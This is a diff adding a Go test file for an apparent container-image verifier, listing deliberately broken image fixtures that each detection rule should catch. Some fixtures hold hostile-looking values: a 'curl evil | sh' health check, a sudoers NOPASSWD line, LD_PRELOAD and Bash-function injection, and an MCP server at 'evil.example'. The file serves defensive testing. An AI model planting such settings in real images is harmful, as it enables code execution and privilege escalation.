@@ -1,0 +1,787 @@
+package verify_test
+
+import (
+	"strings"
+	"testing"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+
+	"github.com/slimctl/slimctl/image"
+	"github.com/slimctl/slimctl/image/tree"
+	"github.com/slimctl/slimctl/inspect"
+	"github.com/slimctl/slimctl/inspect/expect"
+	"github.com/slimctl/slimctl/inspect/mcp"
+	"github.com/slimctl/slimctl/inspect/nginx"
+	"github.com/slimctl/slimctl/inspect/privilege"
+	"github.com/slimctl/slimctl/inspect/start"
+	"github.com/slimctl/slimctl/inspect/supervisord"
+	"github.com/slimctl/slimctl/inspect/verify"
+)
+
+func (f *fixture) server() *nginx.Server { return &f.surface.Nginx[0].Servers[0] }
+
+func (f *fixture) addLocation(l nginx.Location) {
+	l.Place = tree.Place{Path: nginxConf, Line: 50}
+	f.server().Locations = append(f.server().Locations, l)
+}
+
+func (f *fixture) addServer(names []string, listen nginx.Listen, locations ...nginx.Location) {
+	f.surface.Nginx[0].Servers = append(f.surface.Nginx[0].Servers, nginx.Server{Names: names, Listen: []nginx.Listen{listen}, Locations: locations, Place: tree.Place{Path: nginxConf, Line: 60}})
+}
+
+func (f *fixture) addProgram(p supervisord.Program) {
+	if p.Kind == "" {
+		p.Kind = "program"
+	}
+	p.Place = tree.Place{Path: conf, Line: 70}
+	f.surface.Programs = append(f.surface.Programs, p)
+}
+
+func (f *fixture) addServerMCP(s mcp.Server) {
+	s.Place = tree.Place{Path: hubConf, Line: 9}
+	f.surface.MCP.Configs[0].Servers = append(f.surface.MCP.Configs[0].Servers, s)
+}
+
+func (f *fixture) addUser(u privilege.User) {
+	f.surface.Privilege.Users = append(f.surface.Privilege.Users, u)
+}
+
+func (f *fixture) addAbove(files ...image.File) { f.above = append(f.above, files) }
+
+func (f *fixture) privileged(p string, mode int64, kind string) {
+	f.surface.Privilege.Files = append(f.surface.Privilege.Files, privilege.File{Kinds: []string{kind}, Entry: tree.Entry{Entry: image.Entry{Path: p, Type: image.TypeFile, Mode: mode}}, Place: tree.Place{Path: p}})
+}
+
+var proxied = nginx.Target{Kind: nginx.Proxy, Value: "http://127.0.0.1:8091/", Addresses: []string{"127.0.0.1:8091"}}
+
+// broken are, by rule, images that break it. Each case must be found by its rule, and each rule has a case.
+var broken = map[string]map[string]func(*fixture){
+	"mcp-server": {
+		"a second one": func(f *fixture) { f.addServerMCP(mcp.Server{Name: "evil", Type: "stdio", Command: shell}) },
+		"none":         func(f *fixture) { f.surface.MCP.Configs[0].Servers = nil },
+		"no file":      func(f *fixture) { f.surface.MCP.Configs = nil },
+		"twice":        func(f *fixture) { f.addServerMCP(f.surface.MCP.Configs[0].Servers[0]) },
+		"in the template": func(f *fixture) {
+			f.surface.MCP.Configs = append(f.surface.MCP.Configs, mcp.Config{Path: hubConf + ".template", Template: true, Servers: []mcp.Server{{Name: "sandbox"}}})
+		},
+	},
+	"mcp-command": {
+		"another program": func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Command = "/usr/local/bin/browser" },
+		"by PATH":         func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Command = "browser-shell" },
+		"a shell":         func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Command = "/bin/sh" },
+		"no program":      func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Command = conf },
+		"an URL": func(f *fixture) {
+			f.surface.MCP.Configs[0].Servers[0] = mcp.Server{Name: "browser_shell", Type: "streamable-http", URL: "http://evil.example/mcp", Tools: []string{"browser-shell"}}
+		},
+		"hidden": func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Hidden = true },
+		"with a library": func(f *fixture) {
+			f.addAbove(text(hubConf, `{"mcpServers": {"browser_shell": {"env": {"LD_PRELOAD": "/x"}}}}`))
+		},
+		"elsewhere": func(f *fixture) { f.addAbove(text(hubConf, `{"mcpServers": {"browser_shell": {"cwd": "/tmp"}}}`)) },
+	},
+	"mcp-tool": {
+		"another": func(f *fixture) {
+			f.surface.MCP.Configs[0].Servers[0].Tools = []string{"browser-shell", "sandbox_execute_bash"}
+		},
+		"none":      func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Tools = nil },
+		"not known": func(f *fixture) { f.surface.MCP.Configs[0].Servers[0].Unknown = true },
+	},
+	"mcp-built-in": {
+		"python-server": func(f *fixture) {
+			f.surface.MCP.BuiltIn = []mcp.Server{{Name: "python-server", Tools: []string{"sandbox_execute_bash"}}}
+		},
+	},
+	"mcp-enable-file": {
+		"the flag":     func(f *fixture) { f.addAbove(text("/opt/gem/mcp.disabled", "")) },
+		"the program":  func(f *fixture) { f.addAbove(text("/opt/gem/supervisord.mcp.conf", "[program:mcp]")) },
+		"the rendered": func(f *fixture) { f.addAbove(text("/opt/gem/nginx/mcp.conf", "")) },
+		"the route": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "~", Pattern: "^/(sse|message|mcp)", Target: proxied})
+		},
+	},
+	"program": {
+		"another":       func(f *fixture) { f.addProgram(supervisord.Program{Name: "jupyter", Command: "/usr/bin/jupyter"}) },
+		"missing":       func(f *fixture) { f.surface.Programs = f.surface.Programs[:1] },
+		"twice":         func(f *fixture) { f.addProgram(f.surface.Programs[1]) },
+		"eventlistener": func(f *fixture) { f.surface.Programs[0].Kind = "eventlistener" },
+	},
+	"program-dormant": {
+		"a copy": func(f *fixture) {
+			f.surface.Dormant = []supervisord.Config{{Path: "/opt/gem/supervisord.browser.conf", Programs: []supervisord.Program{{Name: "browser"}}}}
+		},
+		"an empty one": func(f *fixture) { f.surface.Dormant = []supervisord.Config{{Path: "/opt/x.conf"}} },
+	},
+	"program-include": {
+		"a glob":         func(f *fixture) { f.surface.Supervisord.Includes = []string{"/opt/gem/supervisord/*.conf"} },
+		"a file by name": func(f *fixture) { f.surface.Supervisord.Files = []string{conf, "/opt/gem/supervisord/x.conf"} },
+	},
+	"program-socket": {
+		"the group's": func(f *fixture) { f.surface.Supervisord.Sockets[0].Mode = "0770" },
+		"everybody's": func(f *fixture) { f.surface.Supervisord.Sockets[0].Mode = "0o777" },
+		"gem's":       func(f *fixture) { f.surface.Supervisord.Sockets[0].Owner = "gem:gem" },
+		"the network's": func(f *fixture) {
+			f.surface.Supervisord.Sockets = append(f.surface.Supervisord.Sockets, supervisord.Socket{Address: "*:9001"})
+		},
+	},
+	"program-environment": {
+		"of the container": func(f *fixture) { f.surface.Programs[0].Variables = []string{"BROWSER_EXTRA_ARGS"} },
+	},
+	"program-account": {
+		"none":          func(f *fixture) { f.surface.Programs[0].User = "" },
+		"root":          func(f *fixture) { f.surface.Programs[0].User = "root" },
+		"supervisord's": func(f *fixture) { f.surface.Programs[0].User = "%(ENV_SLIM_SUPERVISOR_USER)s" },
+	},
+	"program-path": {
+		"by PATH":    func(f *fixture) { f.surface.Programs[1].Command = "nginx" },
+		"by a shell": func(f *fixture) { f.surface.Programs[1].Command = `/bin/bash -c "nginx"` },
+		"by env":     func(f *fixture) { f.surface.Programs[1].Command = "/usr/bin/env nginx" },
+		"no command": func(f *fixture) { f.surface.Programs[1].Command = "" },
+		"gem's": func(f *fixture) {
+			f.base = append(f.base, owned(image.Bytes("/opt/mine", 0o755, program(0x3e)), 1000, 1000))
+			f.surface.Programs[1].Command = "/opt/mine"
+		},
+		"in gem's directory": func(f *fixture) { f.surface.Programs[1].Command = "/home/gem/nginx" },
+		"by gem's link": func(f *fixture) {
+			f.base = append(f.base, image.Symlink("/usr/bin/linked", "/home/gem/nginx"))
+			f.surface.Programs[1].Command = "/usr/bin/linked"
+		},
+		"PATH":          func(f *fixture) { f.surface.Programs[1].Environment["PATH"] = "/home/gem/.local/bin:/usr/bin" },
+		"relative PATH": func(f *fixture) { f.surface.Programs[1].Environment["PATH"] = "/usr/bin:" },
+	},
+	"program-loader": {
+		"LD_PRELOAD":     func(f *fixture) { f.surface.Programs[1].Environment["LD_PRELOAD"] = "/x.so" },
+		"of supervisord": func(f *fixture) { f.surface.Supervisord.Environment = map[string]string{"PATH": "/tmp"} },
+		"PYTHONPATH":     func(f *fixture) { f.surface.Programs[1].Environment["PYTHONPATH"] = "/x" },
+	},
+	"browser-flag": {
+		"debugging for all": func(f *fixture) { f.surface.Programs[0].Command += " --remote-debugging-address=0.0.0.0" },
+		"for pages":         func(f *fixture) { f.surface.Programs[0].Command += ` "--remote-allow-origins=*"` },
+		"no proxy":          func(f *fixture) { f.surface.Programs[0].Command = "/usr/local/bin/browser" },
+		"another proxy":     func(f *fixture) { f.surface.Programs[0].Command += " --proxy-server=http://evil:1" },
+		"a bypass":          func(f *fixture) { f.surface.Programs[0].Command += " --proxy-bypass-list=*" },
+	},
+	"supervisord": {
+		"another file": func(f *fixture) { f.surface.Start.Supervisord = "/etc/supervisor/supervisord.conf" },
+		"none":         func(f *fixture) { f.surface.Start.Supervisord = "" },
+	},
+	"start-entrypoint": {
+		"the base's": func(f *fixture) { f.surface.Config.Entrypoint = []string{"/opt/gem/run.sh"} },
+		"a command":  func(f *fixture) { f.surface.Config.Cmd = []string{"--debug"} },
+		"none":       func(f *fixture) { f.surface.Config.Entrypoint = nil },
+		"no program": func(f *fixture) {
+			f.surface.Config.Entrypoint = []string{"/usr/bin/Xvnc"}
+			f.want.Config.Entrypoint = nil
+		},
+	},
+	"start-script": {
+		"one": func(f *fixture) {
+			f.surface.Start.Scripts = []start.Script{{Path: "/opt/gem/run.sh", By: "entrypoint"}}
+		},
+	},
+	"start-script-left": {
+		"of the base":    func(f *fixture) { f.base = append(f.base, text("/opt/gem/entrypoint.sh", "#!/bin/sh")) },
+		"of a new base":  func(f *fixture) { f.base = append(f.base, text("/opt/gem/sub/new.sh", "#!/bin/sh")) },
+		"of application": func(f *fixture) { f.base = append(f.base, image.Symlink("/opt/application/run.sh", "/opt/gem/run.sh")) },
+	},
+	"start-hook": {
+		"one": func(f *fixture) { f.surface.Start.Hooks = []start.Hook{{Variable: "RUN_HOOK_INIT", How: "bash -c"}} },
+	},
+	"start-grant": {
+		"sudo": func(f *fixture) {
+			f.surface.Start.Grants = []tree.Note{{Place: tree.Place{Path: "/opt/gem/run.sh", Line: 3}, Text: "gem gets sudo"}}
+		},
+	},
+	"start-change": {
+		"one": func(f *fixture) {
+			f.surface.Start.Changes = []start.Change{{Path: "/opt/gem/nginx-proxy-map.conf", How: "touch", Dormant: true, Variables: []string{"PROXY_MAP"}}}
+		},
+	},
+	"start-environment": {
+		"the container's": func(f *fixture) { f.surface.Start.Clean = false },
+	},
+	"nginx-rendered-at-start": {
+		"one": func(f *fixture) {
+			f.surface.Start.Renderings = []start.Rendering{{Template: "/opt/gem/nginx.legacy.conf", Output: "/opt/gem/nginx/legacy.conf"}}
+		},
+	},
+	"switch": {
+		"another": func(f *fixture) {
+			f.surface.Start.Switches = append(f.surface.Start.Switches, start.Switch{Name: "DISABLE_JUPYTER", Kind: start.Program})
+		},
+	},
+	"switch-set": {
+		"anonymous":      func(f *fixture) { f.surface.Config.Env["SLIM_ALLOW_ANONYMOUS"] = "true" },
+		"somebody's key": func(f *fixture) { f.surface.Config.Env["JWT_PUBLIC_KEY"] = "LS0t" },
+		"by the start": func(f *fixture) {
+			f.surface.Start.Switches = append(f.surface.Start.Switches, start.Switch{Name: "X_AUTH", Kind: start.Auth, Set: true, Value: "off"})
+		},
+	},
+	"env-loader": {
+		"LD_PRELOAD":   func(f *fixture) { f.surface.Config.Env["LD_PRELOAD"] = "/usr/lib/x.so" },
+		"NODE_OPTIONS": func(f *fixture) { f.surface.Config.Env["NODE_OPTIONS"] = "--require=/x.js" },
+		"a function":   func(f *fixture) { f.surface.Config.Env["BASH_FUNC_ls%%"] = "() { evil; }" },
+		"a proxy":      func(f *fixture) { f.surface.Config.Env["https_proxy"] = "http://evil:1" },
+	},
+	"autoload": {
+		"ld.so.preload":      func(f *fixture) { f.base = append(f.base, text("/etc/ld.so.preload", "/x.so")) },
+		"ld.so.preload link": func(f *fixture) { f.base = append(f.base, image.Symlink("/etc/ld.so.preload", "/home/gem/x")) },
+		"profile.d":          func(f *fixture) { f.base = append(f.base, text("/etc/profile.d/x.sh", "evil")) },
+		"python":             func(f *fixture) { f.base = append(f.base, text("/usr/lib/python3/dist-packages/x.pth", "import evil")) },
+		"a module of Node":   func(f *fixture) { f.base = append(f.base, text("/node_modules/bufferutil/index.js", "evil")) },
+		"chromium.d":         func(f *fixture) { f.base = append(f.base, text("/etc/chromium.d/x", "evil")) },
+	},
+	"nginx-longer-location": {
+		"a prefix": func(f *fixture) { f.addLocation(nginx.Location{Pattern: "/v1", Auth: "/_auth", Target: proxied}) },
+		"an exact one": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "=", Pattern: "/v1/ping", Target: nginx.Target{Kind: nginx.Return, Status: 200}})
+		},
+		"an expression":     func(f *fixture) { f.addLocation(nginx.Location{Modifier: "~", Pattern: "^/actions$", Target: proxied}) },
+		"of unknown effect": func(f *fixture) { f.addLocation(nginx.Location{Pattern: "/x"}) },
+		"mcp as a prefix":   func(f *fixture) { f.server().Locations[0].Modifier = "" },
+		"a named one":       func(f *fixture) { f.addLocation(nginx.Location{Modifier: "@", Pattern: "open", Target: proxied}) },
+		"nested": func(f *fixture) {
+			f.server().Locations[2].Locations = []nginx.Location{{Pattern: "/x", Target: proxied}}
+		},
+		"the server itself": func(f *fixture) { f.server().Direct = &nginx.Target{Kind: nginx.Rewrite, Value: "/mcp"} },
+		"in some cases": func(f *fixture) {
+			f.server().Locations[2].Cases = []nginx.Case{{When: "error_page 418 = @x", Target: nginx.Target{Kind: nginx.Rewrite, Value: "@x"}}}
+		},
+		"the server in some cases": func(f *fixture) {
+			f.server().Cases = []nginx.Case{{When: "if ($arg_x)", Target: nginx.Target{Kind: nginx.Return, Status: 200}}}
+		},
+		"without a location": func(f *fixture) {
+			f.server().Unmatched = &nginx.Location{Target: nginx.Target{Kind: nginx.Static, Value: "/usr/share/nginx/html"}}
+		},
+		"on loopback": func(f *fixture) {
+			f.addServer(nil, nginx.Listen{Value: "127.0.0.1:8081", Address: "127.0.0.1", Port: 8081, Loopback: true}, nginx.Location{Pattern: "/v1", Target: proxied})
+		},
+	},
+	"nginx-route-missing": {
+		"refused": func(f *fixture) { f.server().Locations[0].Target = nginx.Target{Kind: nginx.Return, Status: 403} },
+		"gone":    func(f *fixture) { f.server().Locations = f.server().Locations[1:] },
+		"nginx":   func(f *fixture) { f.surface.Nginx = nil },
+		"with one of two files": func(f *fixture) {
+			f.surface.Nginx = append(f.surface.Nginx, nginx.Config{Path: nginxConf, Variant: "loopback", Servers: []nginx.Server{{}}})
+		},
+	},
+	"nginx-probe": {
+		"a prefix of mcp": func(f *fixture) { f.server().Locations[0].Modifier = "" },
+		"an expression": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "~*", Pattern: "^/mcp", Auth: "/_auth", Target: proxied})
+		},
+		"another route": func(f *fixture) { f.addLocation(nginx.Location{Pattern: "/devtools/", Target: proxied}) },
+	},
+	"nginx-no-auth": {
+		"none":         func(f *fixture) { f.server().Locations[0].Auth = "" },
+		"files":        func(f *fixture) { f.server().Locations[1].Auth = "" },
+		"an open file": func(f *fixture) { f.server().Locations[1].Locations[0].Pattern = `^/vnc/.*` },
+		"an internal one": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "=", Pattern: "/inside", Internal: true, Target: proxied})
+		},
+		"a named one": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "@", Pattern: "open", Internal: true, Target: proxied})
+		},
+	},
+	"nginx-gate": {
+		"answers itself": func(f *fixture) { f.server().Locations[3].Target = nginx.Target{Kind: nginx.Return, Status: 200} },
+		"not there":      func(f *fixture) { f.server().Locations[0].Auth = "/_nobody" },
+		"by the request": func(f *fixture) { f.server().Locations[0].Auth = "$http_x_auth" },
+		"not internal":   func(f *fixture) { f.server().Locations[3].Internal = false },
+		"in some cases": func(f *fixture) {
+			f.server().Locations[3].Cases = []nginx.Case{{When: "error_page 401 = /_empty", Target: nginx.Target{Kind: nginx.Return, Status: 200}}}
+		},
+		"asks once more": func(f *fixture) { f.server().Locations[3].Auth = "/other" },
+	},
+	"nginx-upstream": {
+		"another port": func(f *fixture) { f.server().Locations[0].Target.Addresses = []string{"127.0.0.1:8091"} },
+		"another host": func(f *fixture) { f.server().Locations[0].Target.Addresses = []string{"evil.example:443"} },
+		"another gate": func(f *fixture) { f.server().Locations[3].Target.Addresses = []string{"10.0.0.1:80"} },
+		"who knows":    func(f *fixture) { f.server().Locations[0].Target.Addresses = nil },
+		"one of several": func(f *fixture) {
+			f.server().Locations[0].Target.Addresses = []string{"unix:/run/hub.sock", "unix:/tmp/other.sock"}
+		},
+	},
+	"nginx-static": {
+		"everything": func(f *fixture) { f.server().Locations[1].Target.Value = "/" },
+		"etc":        func(f *fixture) { f.server().Locations[1].Target.Value = "/etc/" },
+		"by a link": func(f *fixture) {
+			f.base = append(f.base, image.Symlink("/opt/pages", "/home/gem"))
+			f.server().Locations[1].Target.Value = "/opt/pages/"
+		},
+		"without a slash": func(f *fixture) { f.server().Locations[1].Target.Value = "/opt/novnc" },
+		"by the request":  func(f *fixture) { f.server().Locations[1].Target.Value = "/opt/$arg_dir/" },
+	},
+	"nginx-port-proxy": {
+		"by the name": func(f *fixture) {
+			f.addServer([]string{`~^(?<port>\d+)-(.+)$`}, nginx.Listen{Address: "*", Port: 8080}, nginx.Location{Pattern: "/", Target: nginx.Target{Kind: nginx.Proxy, Value: "http://127.0.0.1:$port", Chosen: []string{"server_name capture $port"}}})
+		},
+		"by the host": func(f *fixture) {
+			f.server().Locations[0].Target = nginx.Target{Kind: nginx.Proxy, Value: "http://$host", Chosen: []string{"$host"}}
+		},
+	},
+	"nginx-many-servers": {
+		"two": func(f *fixture) { f.addServer([]string{"open"}, nginx.Listen{Address: "0.0.0.0", Port: 8080}) },
+	},
+	"nginx-header-proxy": {
+		"by a header": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "@", Pattern: "aio", Target: nginx.Target{Kind: nginx.Proxy, Value: "http://127.0.0.1:$aio_proxy_port", Chosen: []string{"$http_x_aio_proxy_port"}}})
+		},
+		"by the query": func(f *fixture) { f.server().Locations[0].Target.Chosen = []string{"$arg_port"} },
+		"who knows":    func(f *fixture) { f.server().Locations[0].Target.Chosen = []string{"$mystery"} },
+	},
+	"nginx-does-not-start": {
+		"a note": func(f *fixture) {
+			f.surface.Nginx[0].Notes = []tree.Note{{Place: tree.Place{Path: nginxConf, Line: 7}, Text: `duplicate location "/"`}}
+		},
+		"no server": func(f *fixture) { f.surface.Nginx[0].Servers = nil },
+	},
+	"nginx-regex-order": {
+		"denies": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "~", Pattern: ".*", Target: nginx.Target{Kind: nginx.Return, Status: 403}})
+		},
+		"answers": func(f *fixture) {
+			f.addLocation(nginx.Location{Modifier: "~*", Pattern: "^/mcp$", Auth: "/_auth", Target: proxied})
+		},
+	},
+	"nginx-raw-path": {
+		"no URI": func(f *fixture) { f.server().Locations[0].Target.RawURI = true },
+	},
+	"nginx-auth-by-request-uri": {
+		"the base's": func(f *fixture) {
+			f.surface.Nginx[0].Maps = []nginx.Map{{Source: "$request_method:$request_uri", Variable: "$target_workflow", Decides: []string{"location"}}}
+		},
+		"through another": func(f *fixture) {
+			f.surface.Nginx[0].Maps = []nginx.Map{{Source: "$x", Parts: []string{"$args"}, Variable: "$gate", Decides: []string{"if"}}}
+		},
+		"by a condition": func(f *fixture) {
+			f.server().Locations[0].Cases = []nginx.Case{{When: `if ($request_uri ~ "\.js$")`, Target: f.server().Locations[0].Target}}
+		},
+	},
+	"nginx-stream": {
+		"TCP": func(f *fixture) { f.server().Protocol = nginx.Stream },
+	},
+	"nginx-template": {
+		"of the base":   func(f *fixture) { f.base = append(f.base, text("/opt/gem/nginx/nginx.python_srv.conf", "x")) },
+		"of the server": func(f *fixture) { f.base = append(f.base, text("/opt/gem/nginx-server-port-proxy.conf.template", "x")) },
+		"a port":        func(f *fixture) { f.server().Listen[0].Value = "${PUBLIC_PORT}" },
+		"a target":      func(f *fixture) { f.server().Locations[0].Target.Value = "http://127.0.0.1:${SANDBOX_SRV_PORT}/mcp" },
+	},
+	"nginx-writable-include": {
+		"gem's file": func(f *fixture) {
+			f.laid = append(f.laid, owned(text("/opt/gem/nginx-proxy-map.conf", ""), 1000, 1000))
+			f.surface.Nginx[0].Files = append(f.surface.Nginx[0].Files, "/opt/gem/nginx-proxy-map.conf")
+		},
+		"everybody's directory": func(f *fixture) {
+			f.base = append(f.base, image.Dir("/opt/conf", 0o777))
+			f.surface.Nginx[0].Includes = []nginx.Include{{Pattern: "/opt/conf/*.conf", Place: tree.Place{Path: nginxConf}}}
+		},
+		"in a temporary directory": func(f *fixture) { f.surface.Nginx[0].Files = append(f.surface.Nginx[0].Files, "/tmp/x.conf") },
+	},
+	"nginx-include-glob": {
+		"all of a directory": func(f *fixture) {
+			f.surface.Nginx[0].Includes = []nginx.Include{{Pattern: "/opt/gem/nginx/*.conf", Place: tree.Place{Path: nginxConf, Line: 3}}}
+		},
+	},
+	"nginx-include-missing": {
+		"not there": func(f *fixture) { f.surface.Nginx[0].Includes = []nginx.Include{{Pattern: "/opt/gem/later.conf"}} },
+		"not laid": func(f *fixture) {
+			f.surface.Nginx[0].Includes = []nginx.Include{{Pattern: "/etc/nginx/mime.types", Files: []string{"/etc/nginx/mime.types"}}}
+		},
+		"the main file": func(f *fixture) { f.surface.Nginx[0].Path = "/etc/nginx/nginx.conf" },
+	},
+	"listener-unknown": {
+		"public": func(f *fixture) {
+			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "*", Port: 8091, By: "python-server"})
+		},
+		"loopback": func(f *fixture) {
+			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "127.0.0.1", Port: 8091, Loopback: true})
+		},
+		"IPv6": func(f *fixture) {
+			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "[::]", Port: 8080})
+		},
+		"rebound": func(f *fixture) { f.surface.Listeners[1].Address = "0.0.0.0" },
+		"a socket": func(f *fixture) {
+			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "unix:/tmp/x.sock"})
+		},
+		"a placeholder": func(f *fixture) {
+			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "${PUBLIC_LISTEN}", By: "nginx"})
+		},
+	},
+	"config": {
+		"variable":         func(f *fixture) { f.surface.Config.Env["PATH"] = "/home/gem/.local/bin:/usr/bin" },
+		"switched on":      func(f *fixture) { f.surface.Config.Env["WAIT_PORTS"] = "8091" },
+		"missing":          func(f *fixture) { delete(f.surface.Config.Env, "WAIT_PORTS") },
+		"unset":            func(f *fixture) { f.surface.Config.Env["GONE"] = "" },
+		"user":             func(f *fixture) { f.want.Config.User = "1000"; f.surface.Config.User = "0" },
+		"directory":        func(f *fixture) { f.surface.Config.WorkingDir = "/home/gem" },
+		"health check":     func(f *fixture) { f.surface.Config.Healthcheck = []string{"CMD-SHELL", "curl evil | sh"} },
+		"a variable twice": func(f *fixture) { f.config.Config.Env = []string{"A=1", "B=2", "A=3"} },
+		"no variable":      func(f *fixture) { f.config.Config.Env = []string{"A"} },
+		"ONBUILD":          func(f *fixture) { f.config.Config.OnBuild = []string{"RUN evil"} },
+	},
+	"config-port": {
+		"another": func(f *fixture) { f.surface.Config.ExposedPorts = []string{"8080/tcp", "9222/tcp"} },
+		"none":    func(f *fixture) { f.surface.Config.ExposedPorts = nil },
+	},
+	"config-volume": {
+		"the policy": func(f *fixture) { f.surface.Config.Volumes = []string{"/etc/agent-browser"} },
+	},
+	"config-label": {
+		"another": func(f *fixture) { f.surface.Config.Labels["title"] = "full" },
+	},
+	"label-unknown": {
+		"one": func(f *fixture) { f.surface.Config.Labels["traefik.http.services.x.loadbalancer.server.port"] = "9222" },
+	},
+	"env-unknown": {
+		"one": func(f *fixture) { f.surface.Config.Env["PUPPETEER_SKIP"] = "true" },
+	},
+	"file-missing": {
+		"hidden":                    func(f *fixture) { f.addAbove(image.Whiteout(shell)) },
+		"hidden with its directory": func(f *fixture) { f.addAbove(image.Whiteout("/opt/agent-browser")) },
+		"hidden by an opaque":       func(f *fixture) { f.addAbove(text("/etc/agent-browser/.wh..wh..opq", "")) },
+		"not laid":                  func(f *fixture) { f.laid = f.laid[1:] },
+		"its directory a link":      func(f *fixture) { f.addAbove(image.Symlink("/etc/agent-browser", "/tmp")) },
+		"one module":                func(f *fixture) { f.addAbove(image.Whiteout("/opt/agent-browser/node_modules/ws/index.js")) },
+	},
+	"file-changed": {
+		"content":   func(f *fixture) { f.addAbove(image.Bytes(shell, 0o755, program(0xb7))) },
+		"a symlink": func(f *fixture) { f.addAbove(image.Symlink(shell, "/usr/local/bin/browser")) },
+		"a hard link": func(f *fixture) {
+			f.addAbove(image.File{Entry: image.Entry{Path: conf, Type: image.TypeLink, Link: nginxConf}})
+		},
+		"a directory": func(f *fixture) { f.addAbove(image.Dir(conf, 0o755)) },
+		"link's end":  func(f *fixture) { f.addAbove(image.Symlink("/usr/local/bin/agent-browser", "/tmp/x")) },
+	},
+	"file-rights": {
+		"mode":  func(f *fixture) { f.addAbove(withMode(text("/etc/agent-browser/policy.json", "{}"), 0o666)) },
+		"owner": func(f *fixture) { f.addAbove(owned(text("/etc/agent-browser/policy.json", "{}"), 1000, 0)) },
+		"xattr": func(f *fixture) {
+			x := image.Bytes(shell, 0o755, program(0x3e))
+			x.Xattrs = map[string]string{"security.capability": "\x01"}
+			f.addAbove(x)
+		},
+		"a directory": func(f *fixture) { f.addAbove(owned(image.Dir("/home/gem", 0o755), 1000, 1000)) },
+	},
+	"file-directory": {
+		"gem's":       func(f *fixture) { f.addAbove(owned(image.Dir("/opt/gem", 0o755), 1000, 1000)) },
+		"everybody's": func(f *fixture) { f.addAbove(image.Dir("/etc/agent-browser", 0o777)) },
+		"the group's": func(f *fixture) { f.addAbove(owned(image.Dir("/usr/local/bin", 0o775), 0, 1000)) },
+	},
+	"file-architecture": {
+		"arm64 in amd64": func(f *fixture) {
+			f.addAbove(image.Bytes(shell, 0o755, program(0xb7)))
+			f.want.Files = []expect.File{{Path: shell, Type: "file", Mode: 0o755, Size: 64, Overlay: "browser-shell"}}
+		},
+		"cut off": func(f *fixture) { f.addAbove(image.Bytes(shell, 0o755, program(0x3e)[:10])) },
+		"32 bit":  func(f *fixture) { b := program(0x3e); b[4] = 1; f.addAbove(image.Bytes(shell, 0o755, b)) },
+		"no such": func(f *fixture) {
+			f.prepare = func(img *inspect.Image, _ *expect.Expect) {
+				img.Platform.Architecture = "amd64"
+				img.Platform.Architecture = "riscv64"
+			}
+		},
+	},
+	"file-extra": {
+		"a module": func(f *fixture) {
+			f.base = append(f.base, text("/opt/agent-browser/node_modules/playwright-core/index.js", "evil"))
+		},
+		"a link": func(f *fixture) { f.addAbove(image.Symlink("/opt/agent-browser/dist/node_modules", "/tmp")) },
+	},
+	"file-removed": {
+		"brought back":        func(f *fixture) { f.addAbove(text("/opt/gem/run.sh", "#!/bin/sh")) },
+		"below":               func(f *fixture) { f.addAbove(text("/etc/sudoers.d/gem", "gem ALL=(ALL) NOPASSWD:ALL")) },
+		"in a laid directory": func(f *fixture) { f.base = append(f.base, image.Bytes("/home/gem/.local/bin/nc", 0o755, nil)) },
+	},
+	"file-closed": {
+		"a new name": func(f *fixture) { f.addAbove(text("/opt/gem/later.conf", "x")) },
+		"a link":     func(f *fixture) { f.addAbove(image.Symlink("/opt/gem/nginx", "/tmp")) },
+	},
+	"base-layers": {
+		"another": func(f *fixture) { f.want.Base.Layers = []string{"sha256:" + strings.Repeat("0", 64)} },
+		"too few": func(f *fixture) {
+			f.prepare = func(_ *inspect.Image, w *expect.Expect) {
+				w.Base.Layers = append(w.Base.Layers, "sha256:1", "sha256:2", "sha256:3")
+			}
+		},
+	},
+	"base-annotation": {
+		"wrong": func(f *fixture) {
+			f.annotations["org.opencontainers.image.base.digest"] = "sha256:" + strings.Repeat("0", 64)
+		},
+		"none":              func(f *fixture) { f.annotations = nil },
+		"not the index's":   func(f *fixture) { f.index = map[string]string{} },
+		"another name":      func(f *fixture) { f.index["org.opencontainers.image.base.name"] = "evil.example/base:1" },
+		"none, and unknown": func(f *fixture) { f.annotations = nil; f.want.Base = expect.Base{} },
+	},
+	"layer-foreign": {
+		"a program of the base": func(f *fixture) { f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e))) },
+		"a library":             func(f *fixture) { f.addAbove(text("/usr/lib/x86_64-linux-gnu/libc.so.6", "evil")) },
+		"a directory's mode":    func(f *fixture) { f.addAbove(image.Dir("/usr/bin", 0o777)) },
+		"a new directory":       func(f *fixture) { f.addAbove(image.Dir("/srv/x", 0o755)) },
+		"a removal":             func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/Xvnc")) },
+		"an opaque directory":   func(f *fixture) { f.addAbove(text("/usr/bin/.wh..wh..opq", "")) },
+		"a laid file, first wrong": func(f *fixture) {
+			f.addAbove(image.Bytes(shell, 0o755, program(0xb7)))
+			f.addAbove(image.Bytes(shell, 0o755, program(0x3e)))
+		},
+		"with the base not known": func(f *fixture) {
+			f.want.Base.Layers = []string{}
+			f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e)))
+		},
+	},
+	"layer-unread": {
+		"one": func(f *fixture) {
+			f.prepare = func(img *inspect.Image, _ *expect.Expect) { img.Files.Layers[0].Unread = true }
+		},
+	},
+	"privilege-file": {
+		"setuid":     func(f *fixture) { f.privileged("/usr/bin/x", 0o4755, privilege.Setuid) },
+		"setgid":     func(f *fixture) { f.privileged("/usr/bin/x", 0o2755, privilege.Setgid) },
